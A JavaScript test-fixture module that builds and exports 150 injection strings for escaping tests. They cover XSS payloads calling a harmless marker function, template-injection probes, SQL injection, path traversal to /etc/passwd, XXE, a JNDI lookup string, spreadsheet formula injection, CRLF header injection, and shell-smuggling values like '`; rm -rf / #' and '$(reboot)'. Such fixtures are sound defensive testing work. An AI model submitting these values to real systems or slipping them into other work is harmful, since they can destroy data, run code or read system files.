// 150 strings that are harmful where text is interpreted: as markup, script, SQL, a path, a header. Scripts call `window.injectionRan()`.
const run = 'injectionRan()';
const charReferences = (text) => [...text].map((char) => `&#${char.codePointAt(0)};`).join('');
const hexEscapes = (text) => [...text].map((char) => `\\x${char.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');

const elements = [
  `<script>${run}</script>`,
  `<script src=data:text/javascript,${run}></script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${charReferences(run)}">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${run}">x</math>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}></select>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<form><button formaction="javascript:${run}">x</button></form>`,
  `<form id=api><input name=POST></form>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="jav&#x09;ascript:${run}">x</a>`,
  `<a href="data:text/html,<script>opener.${run}</script>">x</a>`,
  `<base href="https://example.invalid/">`,
  `<meta http-equiv=refresh content="0;url=https://example.invalid/">`,
  `<link rel=stylesheet href="https://example.invalid/x.css">`,
  `<link rel=import href="data:text/html,<script>${run}</script>">`,
  `<style>@import "https://example.invalid/x.css";</style>`,
  `<style>*{background:url(https://example.invalid/x)}</style>`,
  `<div style="background:url(javascript:${run})">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9999">x</div>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<xmp><img title="</xmp><img src=x onerror=${run}>">`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<p id="root">clobbered</p>`,
  `<img name=getElementById>`,
  `<a id=location><a id=location name=href href="javascript:${run}">`,
  `<isindex action="javascript:${run}" type=submit>`,
  `<keygen autofocus onfocus=${run}>`,
  `<x onclick=${run} tabindex=1 id=x autofocus onfocus=${run}>x</x>`,
];
const closings = ['"><', "'><", '--><', '</title><', '</textarea><', '</script><', '</style><', ']]><', '`><'];
const breakouts = closings.map((start) => `${start}img src=x onerror=${run}>`);
const quotes = [`" onmouseover=${run} x="`, `' onfocus=${run} autofocus x='`, `\` onload=${run} x=\``, `" autofocus onfocus="${run}`, `x onpointerenter=${run}`];
const schemes = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, `java\tscript:${run}`, `\u0001javascript:${run}`, ` javascript:${run}`, `javascript://%0a${run}`,
  `data:text/html,<script>${run}</script>`, `data:text/html;base64,PHNjcmlwdD5pbmplY3Rpb25SYW4oKTwvc2NyaXB0Pg==`, `vbscript:${run}`, `blob:${run}`,
  'file:///etc/passwd', '//example.invalid/x', '\\\\example.invalid\\x', 'https://user:secret@example.invalid/', 'https://exаmple.invalid/',
];
const templates = [
  `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `#{${run}}`, `<%= ${run} %>`, `{%print(${run})%}`, `{{7*7}}`, `[[\${7*7}]]`, `@{${run}}`,
  `eval('${hexEscapes(run)}')`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`, `&lt;script&gt;${run}&lt;/script&gt;`, `%3Cscript%3E${run}%3C/script%3E`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`, `＜script＞${run}＜/script＞`, `"-${run}-"`, `';${run}//`, `\\";${run}//`, `</script><script>${run}</script>`,
];
const names = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__', 'null', 'undefined', 'NaN', 'true', '-0', '1e309', '[object Object]'];
const unicode = [
  '\u202Egnp.exe\u202C', '\u2066\u2067\u2068reversed\u2069', 'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308'.repeat(20), '\u200B\u200C\u200D\uFEFF', '\u2028\u2029', '\u00AD'.repeat(50),
  'pаypаl', 'ﷺ'.repeat(30), '👩‍👩‍👧‍👦'.repeat(20), '\u{1F1E6}'.repeat(41), '𝕋𝕠𝕔𝕤𝕚𝕟', 'İstanbul ßẞ', '\u0085\u00A0\u3000', '\uFFFE\uFFFF\uFDD0', 'Z̷̰̈́ä̷́l̵g̸ó',
];
const others = [
  "'; drop table tocsin.incidents; --", "' or '1'='1", '=cmd|calc!A1', '+1+1', '@SUM(1)', '-2+3', '../../../../etc/passwd', '%00', '%s%s%s%n', '${jndi:ldap://example.invalid/a}',
  '\x1b[31mred\x1b[0m\x07', 'line one\r\nSet-Cookie: x=1', '\r\n\r\nevent: reset\ndata: {}\n\n', 'x'.repeat(400), '<'.repeat(200), '"'.repeat(200), '`; rm -rf / #', '$(reboot)', '[x](javascript:injectionRan())',
  '![x](https://example.invalid/x)', '<https://example.invalid>', '{"a":{"b":[', ']]>', '<!--', '<![CDATA[', '&nbsp;&lt;&amp;amp;', '<?xml version="1.0"?><!DOCTYPE x SYSTEM "file:///etc/passwd">', '#', '?x=1&y=2#z',
];
const all = [...elements, ...breakouts, ...quotes, ...schemes, ...templates, ...others, ...unicode, ...names];

export const injectionStrings = all.slice(0, 150);
